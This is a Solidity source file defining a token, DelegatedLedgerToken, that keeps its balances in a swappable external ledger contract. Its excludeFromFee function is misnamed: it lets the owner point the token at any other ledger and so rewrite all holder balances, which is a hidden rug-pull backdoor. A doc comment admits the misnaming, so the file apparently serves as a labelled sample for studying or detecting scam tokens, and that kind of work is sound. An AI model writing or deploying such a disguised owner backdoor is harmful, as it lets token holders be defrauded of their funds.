// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @notice Where a DelegatedLedgerToken keeps its balances.
interface IBalanceLedger {
    function balanceOf(address account) external view returns (uint256);
    function move(address from, address to, uint256 amount) external;
}

/// @title A balance book for one token: only the token that bound it may
/// move balances.
contract BalanceLedger is IBalanceLedger {
    address public token;
    mapping(address => uint256) private _book;

    function bind(address token_, address holder, uint256 supply) external {
        require(token == address(0), "bound");
        token = token_;
        _book[holder] = supply;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _book[account];
    }

    function move(address from, address to, uint256 amount) external {
        require(msg.sender == token, "not the token");
        require(_book[from] >= amount, "ledger: balance");
        unchecked {
            _book[from] -= amount;
        }
        _book[to] += amount;
    }
}

/// @title external_call through delegated balances: balanceOf and every
/// transfer are answered by a ledger contract named in storage, and the
/// owner can point the token at another ledger (any balances at all) with
/// a misnamed excludeFromFee(address).
contract DelegatedLedgerToken {
    string public constant name = "Delegated Ledger";
    string public constant symbol = "DLGR";
    uint8 public constant decimals = 18;
    uint256 public immutable totalSupply;
    address public owner;
    IBalanceLedger private _ledger;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address ledger, uint256 supply) {
        owner = msg.sender;
        _ledger = IBalanceLedger(ledger);
        totalSupply = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function excludeFromFee(address account) external {
        require(msg.sender == owner, "DLGR: owner");
        _ledger = IBalanceLedger(account);
    }

    function balanceOf(address account) external view returns (uint256) {
        return _ledger.balanceOf(account);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _ledger.move(msg.sender, to, value);
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) {
            require(a >= value, "DLGR: allowance");
            allowance[from][msg.sender] = a - value;
        }
        _ledger.move(from, to, value);
        emit Transfer(from, to, value);
        return true;
    }
}
